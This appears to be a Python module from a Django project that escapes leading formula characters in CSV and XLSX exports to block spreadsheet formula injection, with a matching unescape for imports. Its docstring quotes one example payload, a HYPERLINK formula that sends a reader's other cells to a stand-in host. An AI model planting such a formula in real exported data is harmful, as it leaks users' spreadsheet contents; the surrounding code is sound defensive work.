"""No formula in the spreadsheets Pacta writes: one rule for the public CSV downloads and the admin's CSV and XLSX.

A spreadsheet application opening a file runs a cell that starts with "=", "+", "-" or "@" as a formula, and one that
starts with a tab or a carriage return once it trims it (OWASP's "CSV injection"): a record titled
`=HYPERLINK("http://evil.example/?leak="&A2,"Click")` would send a reader's other cells to any address. Such a text
is written with a single quote before it, which spreadsheet applications take as "this cell is text"; an imported
file has the quote taken off again (records/resources.py), so that an exported file imports back to the same texts.

Decided case by case:
- A number ("-12", "+3.5", "-1.5e3") is written as it is: applications read it as that number, never a formula.
- Any other text starting with one of those characters is escaped, even one that is harmless in most applications
  ("-", "- first point", "@cbp"): one character more, and no list of which formulae each application accepts.
- Dates as stored ("2024-10-08", "2024-10") and links start with a digit or a letter and are never touched.
- A text starting with quotes and then one of those characters ("'=x") gets one quote more, so that taking one off
  on import always gives back what was exported, whatever the text.

django-import-export's own IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT is left off: it deletes the leading "=" (the text
cannot be imported back), leaves "+", "-" and "@" alone, and turns every XLSX cell, numbers and dates too, into text.
"""

import re

TRIGGERS = frozenset("=+-@\t\r")
QUOTE = "'"
# What a text that may need escaping starts with: a formula character, or a quote that may come before one.
CHECKED = TRIGGERS | {QUOTE}
NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def _starts_formula(text):
    """Whether a text, past any quotes it starts with, starts with a character that makes a formula."""
    return text.lstrip(QUOTE)[:1] in TRIGGERS


def escape(value):
    """The value as a spreadsheet cell: a text that would start a formula with a quote before it; any other value
    (a number, None, a date) as it is. Runs for every cell of a download, so the common case is one comparison."""
    if type(value) is not str or value[:1] not in CHECKED:
        return value
    if _starts_formula(value) and not NUMBER.fullmatch(value):
        return QUOTE + value
    return value


def unescape(value):
    """The text `escape` was given: its first quote taken off when a formula character follows the quotes."""
    if type(value) is str and value[:1] == QUOTE and _starts_formula(value):
        return value[1:]
    return value
